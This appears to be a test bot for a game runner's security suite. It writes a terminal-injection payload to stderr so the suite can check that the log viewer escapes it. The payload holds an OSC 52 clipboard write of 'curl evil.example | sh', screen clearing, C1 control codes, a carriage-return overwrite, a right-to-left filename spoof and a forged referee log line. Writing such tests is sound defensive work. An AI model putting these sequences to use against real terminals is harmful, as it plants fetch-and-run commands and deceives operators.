# cheat: write terminal control sequences on its standard error, for whoever reads the logs in a terminal (`launcher logs`): OSC 52 (set the operator's clipboard), clear the screen, a C1 CSI, a carriage return, a right-to-left override, and a forged `==> referee.stderr.log <==` header framing the opponent
# verdict: ok
# win: score
"""The runner keeps a player's log byte for byte (it is evidence); whatever prints it to a
terminal must escape it. `launcher/tests/cli.rs` plays this bot through the real runner and
checks what `launcher logs` prints. Then the bot stands still and loses on score."""
import base64
import sys

from game.sdk import run

PAYLOAD = (
    b"\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh") + b"\x07"  # OSC 52: clipboard
    + b"\x1b[2J\x1b[H"  # clear the screen, cursor home
    + "\u009b31m".encode()  # C1 CSI (U+009B), a one-character ESC [
    + b"\x9b" + b"0m"  # the same as a raw byte (not UTF-8)
    + b"hidden\rOVERWRITTEN"  # carriage return: overwrite what the line showed
    + "\u202egnp.exe\n".encode()  # right-to-left override
    + b"\n==> referee.stderr.log <==\n"
    + b"referee: player honest tampered with the board (FORGED BY A PLAYER)\n"
)


def act(observation):
    if observation["turn"] == 1:
        sys.stderr.buffer.write(PAYLOAD)
        sys.stderr.flush()
    return "STAY"


run(act)
